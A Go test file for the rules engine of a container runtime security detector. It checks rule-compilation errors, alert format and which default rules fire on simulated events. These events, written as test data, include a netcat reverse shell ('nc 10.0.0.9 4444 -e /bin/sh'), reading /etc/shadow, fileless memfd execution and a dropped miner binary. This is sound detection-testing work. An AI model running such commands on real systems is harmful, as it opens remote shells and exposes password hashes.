@@ -1,0 +1,430 @@
+package rules
+
+import (
+	"bytes"
+	"encoding/json"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"reflect"
+	"sort"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/riposte-sec/riposte/detector/event"
+	exrules "github.com/riposte-sec/riposte/examples/rules"
+	"github.com/riposte-sec/riposte/internal/alert"
+)
+
+// TestInvalidFiles loads each file of testdata/invalid and checks the exact
+// error.
+func TestInvalidFiles(t *testing.T) {
+	want := map[string]string{
+		"bad_condition_field.yaml": `bad_condition_field.yaml:3: rule "Typo in field": condition: unknown field proc.nme (column 29)`,
+		"bad_event_type.yaml":      `bad_event_type.yaml:3: rule "Typo in type": condition: evt.type "opne" is not an event type (want one of exec, fork, exit, open, connect, accept, bind, listen, socket, ptrace, memfd_create, setuid, dup, cpu_high, memory_growth)`,
+		"bad_output_field.yaml":    `bad_output_field.yaml:4: rule "Typo in output": output: unknown field %proc.nme`,
+		"bad_priority.yaml":        `bad_priority.yaml:5: rule "Urgent": priority: unknown priority "Urgent" (want one of Emergency, Alert, Critical, Error, Warning, Notice, Informational, Debug)`,
+		"bad_template.yaml":        `bad_template.yaml:4: rule "Template typo": output: template: 1:14: executing "output" at <.proc.nme>: map has no entry for key "nme"`,
+		"condition_not_bool.yaml":  `condition_not_bool.yaml:3: rule "Not a boolean": condition: expected bool, but got string`,
+		"duplicate_key.yaml":       `duplicate_key.yaml:3: duplicate field "desc"`,
+		"duplicate_rule.yaml":      `duplicate_rule.yaml:7: rule "Twice": duplicate rule, first defined at duplicate_rule.yaml:1`,
+		"enabled_string.yaml":      `enabled_string.yaml:6: rule "Enabled as a string": enabled: want true or false, got "yes"`,
+		"list_items_mapping.yaml":  `list_items_mapping.yaml:4: list "bad_items": items: want scalars (strings or numbers), got a mapping`,
+		"macro_cycle.yaml":         "macro_cycle.yaml:2: macro \"a\": cycle: a -> b -> a\nmacro_cycle.yaml:5: macro \"b\": cycle: b -> a -> b",
+		"missing_output.yaml":      `missing_output.yaml:1: rule "No output": missing field "output"`,
+		"no_kind.yaml":             `no_kind.yaml:1: item has none of the keys rule, macro, list`,
+		"not_a_list.yaml":          `not_a_list.yaml:1: want a list of rule, macro and list items, got a mapping`,
+		"reserved_name.yaml":       `reserved_name.yaml:1: macro "proc": name is reserved (a field or function of the rule language)`,
+		"several_errors.yaml":      "several_errors.yaml:5: rule \"First\": priority: unknown priority \"Loud\" (want one of Emergency, Alert, Critical, Error, Warning, Notice, Informational, Debug)\nseveral_errors.yaml:10: rule \"Second\": output: unknown field %fd.nam",
+		"tags_not_list.yaml":       `tags_not_list.yaml:6: rule "Tags as a string": tags: want a list of strings`,
+		"two_kinds.yaml":           `two_kinds.yaml:1: item has more than one of the keys rule, macro, list: rule, macro`,
+		"undefined_name.yaml":      `undefined_name.yaml:3: rule "Unknown macro": condition: unknown name no_such_macro (column 24)`,
+		"unknown_field.yaml":       `unknown_field.yaml:3: rule "Typo": unknown field "conditon" (want one of rule, desc, condition, output, priority, tags, enabled)`,
+		"yaml_syntax.yaml":         `yaml_syntax.yaml:2: did not find expected key`,
+	}
+	names, err := filepath.Glob("testdata/invalid/*.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(names) != len(want) {
+		t.Errorf("%d files in testdata/invalid, %d expected messages", len(names), len(want))
+	}
+	for _, path := range names {
+		name := filepath.Base(path)
+		t.Run(name, func(t *testing.T) {
+			b, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			rs, err := Compile(File{Name: name, Data: b})
+			if err == nil {
+				t.Fatalf("loaded %d rules, want an error", len(rs.Rules()))
+			}
+			if got := err.Error(); got != want[name] {
+				t.Fatalf("error:\n got: %s\nwant: %s", got, want[name])
+			}
+		})
+	}
+}
+
+func defaultRules(t testing.TB) *Ruleset {
+	t.Helper()
+	files, err := ReadFS(exrules.FS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rs, err := Compile(files...)
+	if err != nil {
+		t.Fatalf("default rules: %v", err)
+	}
+	return rs
+}
+
+// TestExampleRules loads every file of examples/rules from disk, checks the
+// embedded copy is the same, and that the rules other code relies on exist.
+func TestExampleRules(t *testing.T) {
+	dir := "../../examples/rules"
+	files, err := ReadPaths(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rs, err := Compile(files...)
+	if err != nil {
+		t.Fatalf("examples/rules: %v", err)
+	}
+	onDisk, _ := filepath.Glob(filepath.Join(dir, "*.yaml"))
+	embedded, _ := fs.Glob(exrules.FS, "*.yaml")
+	if len(onDisk) != len(files) || len(embedded) != len(onDisk) {
+		t.Fatalf("%d files on disk, %d loaded, %d embedded", len(onDisk), len(files), len(embedded))
+	}
+	for _, f := range files {
+		b, err := fs.ReadFile(exrules.FS, filepath.Base(f.Name))
+		if err != nil || !bytes.Equal(b, f.Data) {
+			t.Errorf("%s: embedded copy differs or is missing (%v)", f.Name, err)
+		}
+	}
+	for _, name := range []string{
+		"Terminal shell in container", "Shell spawned in container", "Read sensitive file untrusted",
+		"Write below binary dir", "Drop and execute new binary in container",
+		"Outbound connection to non-allowed destination", "Container listening on new port",
+		"Redirect STDOUT/STDIN to network connection in container", "Reverse shell in container",
+		"Netcat remote code execution in container", "Packet socket created in container",
+		"Execution from /dev/shm", "Fileless execution via memfd_create", "PTRACE attached to process",
+		"Container CPU usage above threshold", "Container memory growth above threshold",
+	} {
+		r := rs.Rule(name)
+		if r == nil {
+			t.Errorf("default rule %q missing", name)
+			continue
+		}
+		if !r.Enabled || r.Desc == "" || len(r.Tags) == 0 || r.EventTypes() == nil {
+			t.Errorf("%q: enabled=%v desc=%q tags=%v types=%v", name, r.Enabled, r.Desc, r.Tags, r.EventTypes())
+		}
+	}
+}
+
+const cid = "3f4e8c1a9b2d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f"
+
+func inContainer(ev event.Event) event.Event {
+	ev.Container = event.Container{ID: cid, Name: "web", Image: "registry/app", Tag: "1.2", Ports: []uint16{80}}
+	if ev.VPID == 0 {
+		ev.VPID = 7
+	}
+	return ev
+}
+
+func onHost(ev event.Event) event.Event {
+	ev.Container = event.Container{ID: event.HostID}
+	return ev
+}
+
+func execOf(comm, pname string, args ...string) event.Event {
+	return event.Event{Type: event.Exec, Comm: comm, Exe: "/bin/" + comm, Args: append([]string{comm}, args...), PID: 100, PPID: 50, PName: pname, User: "root"}
+}
+
+func openOf(comm, path string, flags uint64) event.Event {
+	return event.Event{Type: event.Open, Comm: comm, Path: path, Flags: flags, PID: 100, PName: "sh", Ret: 3, User: "root"}
+}
+
+func netOf(typ, raddr string, rport uint16, laddr string, lport uint16) event.Event {
+	return event.Event{Type: typ, Comm: "app", PID: 100, Family: "inet", SockType: "stream", RemoteAddr: raddr, RemotePort: rport, LocalAddr: laddr, LocalPort: lport}
+}
+
+// TestDefaultRulesMatch feeds the default rules events that must and must
+// not alert, and checks exactly which rules match.
+func TestDefaultRulesMatch(t *testing.T) {
+	rs := defaultRules(t)
+	tty := func(ev event.Event) event.Event { ev.TTY = 34816; return ev }
+	vpid := func(ev event.Event, n uint32) event.Event { ev.VPID = n; return ev }
+	with := func(ev event.Event, f func(*event.Event)) event.Event { f(&ev); return ev }
+	tests := []struct {
+		name string
+		ev   event.Event
+		want []string
+	}{
+		{"docker exec sh -c", inContainer(execOf("sh", "runc", "-c", "cat /etc/shadow")), []string{"Shell spawned in container"}},
+		{"docker exec -it sh", tty(inContainer(execOf("sh", "runc"))), []string{"Terminal shell in container"}},
+		{"bash via containerd-shim", inContainer(execOf("bash", "containerd-shim")), []string{"Shell spawned in container"}},
+		{"container entrypoint shell", vpid(inContainer(execOf("sh", "containerd-shim", "-c", "sleep 1")), 1), nil},
+		{"shell started by a shell", inContainer(execOf("sh", "bash")), nil},
+		{"shell on the host", onHost(execOf("bash", "sshd")), nil},
+		{"non-shell in container", inContainer(execOf("cat", "runc", "/etc/hostname")), nil},
+		{"cat /etc/shadow in container", inContainer(openOf("cat", "/etc/shadow", 0)), []string{"Read sensitive file untrusted"}},
+		{"read sudoers.d on host", onHost(openOf("vim", "/etc/sudoers.d/admins", 0)), []string{"Read sensitive file untrusted"}},
+		{"sshd reads shadow", onHost(openOf("sshd", "/etc/shadow", 0o2000000)), nil},
+		{"write-only shadow is not a read", inContainer(openOf("tee", "/etc/shadow", 1)), nil},
+		{"read /etc/passwd", inContainer(openOf("cat", "/etc/passwd", 0)), nil},
+		{"write below /usr/bin", inContainer(openOf("cp", "/usr/bin/evil", 0o1101)), []string{"Write below binary dir"}},
+		{"dpkg writes below /usr/bin", onHost(openOf("dpkg", "/usr/bin/ls", 0o1101)), nil},
+		{"read below /usr/bin", inContainer(openOf("ld.so", "/usr/bin/ls", 0)), nil},
+		{"dropped binary executed", inContainer(with(execOf("miner", "sh"), func(e *event.Event) { e.ExeUpperLayer = true; e.Exe = "/tmp/miner" })),
+			[]string{"Drop and execute new binary in container"}},
+		{"dropped binary as entrypoint", vpid(inContainer(with(execOf("app", "containerd-shim"), func(e *event.Event) { e.ExeUpperLayer = true })), 1), nil},
+		{"exec from /dev/shm", onHost(with(execOf("x", "bash"), func(e *event.Event) { e.Exe = "/dev/shm/x" })), []string{"Execution from /dev/shm"}},
+		{"exec ./x with cwd /dev/shm", inContainer(with(execOf("x", "python"), func(e *event.Event) { e.Exe = "./x"; e.Cwd = "/dev/shm" })), []string{"Execution from /dev/shm"}},
+		{"memfd exec", inContainer(with(execOf("x", "python"), func(e *event.Event) { e.ExeMemfd = true; e.Exe = "/dev/fd/3" })), []string{"Fileless execution via memfd_create"}},
+		{"outbound to the internet", inContainer(netOf(event.Connect, "93.184.216.34", 443, "172.17.0.2", 40000)), []string{"Outbound connection to non-allowed destination"}},
+		{"outbound to loopback", inContainer(netOf(event.Connect, "127.0.0.1", 5432, "127.0.0.1", 40000)), nil},
+		{"DNS", inContainer(with(netOf(event.Connect, "8.8.8.8", 53, "172.17.0.2", 40000), func(e *event.Event) { e.SockType = "dgram" })), nil},
+		{"outbound from the host", onHost(netOf(event.Connect, "93.184.216.34", 443, "10.0.0.2", 40000)), nil},
+		{"unix socket connect", inContainer(event.Event{Type: event.Connect, Family: "unix", Path: "/var/run/docker.sock"}), nil},
+		{"listen on an undeclared port", inContainer(netOf(event.Listen, "", 0, "0.0.0.0", 4444)), []string{"Container listening on new port"}},
+		{"listen on the declared port", inContainer(netOf(event.Listen, "", 0, "0.0.0.0", 80)), nil},
+		{"socket dup'd onto stdin", inContainer(with(netOf(event.Dup, "10.0.0.9", 4444, "172.17.0.2", 40000), func(e *event.Event) { e.Ret = 0; e.FD = 3 })),
+			[]string{"Redirect STDOUT/STDIN to network connection in container"}},
+		{"shell with a socket as stdin", inContainer(with(execOf("sh", "nc"), func(e *event.Event) {
+			e.StdinNet, e.Family, e.SockType, e.RemoteAddr, e.RemotePort = true, "inet", "stream", "10.0.0.9", 4444
+		})), []string{"Reverse shell in container", "Shell spawned in container"}},
+		{"nc -e", inContainer(execOf("nc", "sh", "10.0.0.9", "4444", "-e", "/bin/sh")), []string{"Netcat remote code execution in container"}},
+		{"plain nc", inContainer(execOf("nc", "sh", "-l", "-p", "80")), nil},
+		{"packet socket", inContainer(event.Event{Type: event.Socket, Comm: "tcpdump", SysArgs: []int64{17, 3, 768}, Ret: 3}), []string{"Packet socket created in container"}},
+		{"inet socket", inContainer(event.Event{Type: event.Socket, Comm: "curl", SysArgs: []int64{2, 1, 0}, Ret: 3}), nil},
+		{"ptrace attach", onHost(event.Event{Type: event.Ptrace, Comm: "gdb", SysArgs: []int64{16, 1234, 0, 0}}), []string{"PTRACE attached to process"}},
+		{"ptrace traceme", onHost(event.Event{Type: event.Ptrace, Comm: "strace", SysArgs: []int64{0, 0, 0, 0}}), nil},
+		{"setuid by non-root", inContainer(event.Event{Type: event.Setuid, Syscall: "setuid", Comm: "exploit", EUID: 1000, SysArgs: []int64{0, -1, -1}}), []string{"Non sudo setuid"}},
+		{"setuid by root", inContainer(event.Event{Type: event.Setuid, Syscall: "setuid", Comm: "nginx", EUID: 0, SysArgs: []int64{33, -1, -1}}), nil},
+		{"sudo setuid", onHost(event.Event{Type: event.Setuid, Syscall: "setresuid", Comm: "sudo", EUID: 1000, SysArgs: []int64{0, 0, 0}}), nil},
+		{"cpu high", inContainer(event.Event{Type: event.CPUHigh, CPUPercent: 99, CPUSeconds: 31}), []string{"Container CPU usage above threshold"}},
+		{"memory growth", inContainer(event.Event{Type: event.MemoryGrowth, MemoryBytes: 600 << 20, MemoryGrowthBytes: 300 << 20}), []string{"Container memory growth above threshold"}},
+		{"fork", inContainer(event.Event{Type: event.Fork, Comm: "sh"}), nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ev := tt.ev
+			ev.Time = time.Unix(1700000000, 5)
+			matched, _, err := rs.Match(&ev)
+			if err != nil {
+				t.Fatalf("match: %v", err)
+			}
+			var got []string
+			for _, r := range matched {
+				got = append(got, r.Name)
+			}
+			sort.Strings(got)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Fatalf("matched %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestAlertShape checks the alert of a match is Falco's JSON shape and
+// survives the webhook decoder.
+func TestAlertShape(t *testing.T) {
+	rs := defaultRules(t)
+	ev := inContainer(openOf("cat", "/etc/shadow", 0))
+	ev.Time = time.Date(2026, 1, 2, 3, 4, 5, 6, time.UTC)
+	ev.PArgs = []string{"sh", "-c", "cat /etc/shadow"}
+	alerts, err := rs.Eval(&ev, "node-1")
+	if err != nil || len(alerts) != 1 {
+		t.Fatalf("Eval = %d alerts, %v", len(alerts), err)
+	}
+	a := alerts[0]
+	if a.Rule != "Read sensitive file untrusted" || a.Priority != alert.PriorityWarning || a.Source != "syscall" || a.Hostname != "node-1" {
+		t.Fatalf("alert = %+v", a)
+	}
+	wantFields := map[string]any{
+		"container.id": cid[:12], "container.name": "web", "container.image.repository": "registry/app",
+		"container.image.tag": "1.2", "proc.name": "cat", "proc.cmdline": "cat", "proc.pname": "sh",
+		"proc.pid": int64(100), "user.name": "root", "fd.name": "/etc/shadow", "evt.time": ev.Time.UnixNano(),
+		"evt.type": "open",
+	}
+	for k, v := range wantFields {
+		if a.OutputFields[k] != v {
+			t.Errorf("output_fields[%q] = %#v, want %#v", k, a.OutputFields[k], v)
+		}
+	}
+	if !strings.Contains(a.Output, ": Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow user=root proc=cat parent=sh") {
+		t.Errorf("output = %q", a.Output)
+	}
+	if a.ID != alert.DeterministicID(a) {
+		t.Errorf("uuid %q is not the deterministic id", a.ID)
+	}
+	b, err := json.Marshal(a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	back, err := alert.Decode(b)
+	if err != nil {
+		t.Fatalf("decode our own alert: %v\n%s", err, b)
+	}
+	if back[0].ID != a.ID || back[0].Container().ID != cid[:12] || back[0].OutputFields["evt.time"] != ev.Time.UnixNano() {
+		t.Fatalf("round trip: %+v", back[0])
+	}
+}
+
+func TestOutputTemplateAndMacrosAnywhere(t *testing.T) {
+	src := `
+- rule: Templated
+  desc: d
+  condition: is_exec and proc.name in later_list
+  output: "{{ .proc.name }} in {{ .container.name }} as {{ .user.name }}"
+  priority: notice
+  tags: [t]
+- macro: is_exec
+  condition: evt.type == "exec"
+- list: later_list
+  items: [inner_list, zsh]
+- list: inner_list
+  items: [sh, "bash"]
+- rule: Disabled
+  desc: d
+  condition: evt.type == "exec"
+  output: o
+  priority: debug
+  enabled: false
+`
+	rs, err := Compile(File{Name: "t.yaml", Data: []byte(src)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rs.Rule("Templated").Expanded; got != `(evt.type == "exec") and proc.name in ["sh", "bash", "zsh"]` {
+		t.Errorf("expanded = %s", got)
+	}
+	ev := inContainer(execOf("bash", "runc"))
+	as, err := rs.Eval(&ev, "h")
+	if err != nil || len(as) != 1 {
+		t.Fatalf("eval: %d alerts, %v", len(as), err)
+	}
+	if !strings.HasSuffix(as[0].Output, ": Notice bash in web as root") {
+		t.Errorf("output = %q", as[0].Output)
+	}
+}
+
+func TestFilter(t *testing.T) {
+	open := inContainer(openOf("cat", "/etc/shadow", 0))
+	exec := onHost(execOf("ls", "bash", "-l"))
+	conn := inContainer(netOf(event.Connect, "10.1.2.3", 443, "172.17.0.2", 40000))
+	tests := []struct {
+		filter string
+		ev     event.Event
+		want   bool
+	}{
+		{`evt.type == "open" && fd.name startsWith "/etc"`, open, true},
+		{`evt.type == "open" && fd.name startsWith "/etc"`, exec, false},
+		{`proc.name == "ls" and proc.args == "-l" and container.id == "host"`, exec, true},
+		{`fd.sip == "10.1.2.3" and fd.sport == 443 and fd.l4proto == "tcp"`, conn, true},
+		{`inCIDR(fd.sip, ["10.0.0.0/8"])`, conn, true},
+		{`inCIDR(fd.sip, ["192.168.0.0/16", "10.1.2.4"])`, conn, false},
+		{`glob(fd.name, "/etc/sh*")`, open, true},
+		{`container.image.repository == "registry/app" and container.image.tag == "1.2"`, open, true},
+		{`fd.name matches "^/etc/(shadow|gshadow)$"`, open, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.filter, func(t *testing.T) {
+			f, err := CompileFilter(tt.filter)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, err := f.Match(&tt.ev)
+			if err != nil || got != tt.want {
+				t.Fatalf("Match = %v, %v; want %v", got, err, tt.want)
+			}
+		})
+	}
+	for src, want := range map[string]string{
+		``:                "compile filter: empty expression",
+		`fd.nam == "x"`:   "compile filter: unknown field fd.nam (column 4)",
+		`evt.type`:        "compile filter: expected bool, but got string",
+		`spawned_process`: "compile filter: unknown name spawned_process (column 1)",
+	} {
+		if _, err := CompileFilter(src); err == nil || err.Error() != want {
+			t.Errorf("CompileFilter(%q) error = %v, want %q", src, err, want)
+		}
+	}
+	// With the ruleset, macros and lists are available.
+	f, err := defaultRules(t).Filter(`spawned_process and proc.name in shell_binaries`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sh := inContainer(execOf("sh", "runc"))
+	if ok, err := f.Match(&sh); !ok || err != nil {
+		t.Fatalf("ruleset filter: %v, %v", ok, err)
+	}
+}
+
+func TestReplaceIdents(t *testing.T) {
+	repl := func(name string) (string, bool) {
+		switch name {
+		case "m":
+			return "(x)", true
+		case "l":
+			return `["a"]`, true
+		}
+		return "", false
+	}
+	tests := []struct{ in, want string }{
+		{`m and proc.name in l`, `(x) and proc.name in ["a"]`},
+		{`proc.m == "m l" and l`, `proc.m == "m l" and ["a"]`},
+		{`evt . m`, `evt . m`},
+		{`'it\'s m' or m`, `'it\'s m' or (x)`},
+		{"`raw m` or mm or m2", "`raw m` or mm or m2"},
+		{`"unterminated m`, `"unterminated m`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			if got := replaceIdents(tt.in, repl); got != tt.want {
+				t.Fatalf("got %s, want %s", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFieldNames(t *testing.T) {
+	names := FieldNames()
+	for _, want := range []string{"evt.type", "proc.name", "proc.pname", "fd.name", "fd.sip", "fd.sport", "container.id",
+		"container.image.repository", "container.image.tag", "user.name", "evt.arg.request", "container.cpu.percent"} {
+		i := sort.SearchStrings(names, want)
+		if i >= len(names) || names[i] != want {
+			t.Errorf("field %s missing", want)
+		}
+	}
+}
+
+// FuzzCompile: no input makes the loader panic, and an accepted file's
+// rules can be evaluated.
+func FuzzCompile(f *testing.F) {
+	seeds, _ := filepath.Glob("testdata/invalid/*.yaml")
+	ex, _ := filepath.Glob("../../examples/rules/*.yaml")
+	for _, p := range append(seeds, ex...) {
+		if b, err := os.ReadFile(p); err == nil {
+			f.Add(b)
+		}
+	}
+	f.Add([]byte("- macro: a\n  condition: a\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		rs, err := Compile(File{Name: "fuzz.yaml", Data: data})
+		if err != nil {
+			if err.Error() == "" {
+				t.Fatal("empty error message")
+			}
+			return
+		}
+		ev := inContainer(execOf("sh", "runc"))
+		for _, typ := range event.Types() {
+			ev.Type = typ
+			_, _ = rs.Eval(&ev, "h")
+		}
+	})
+}
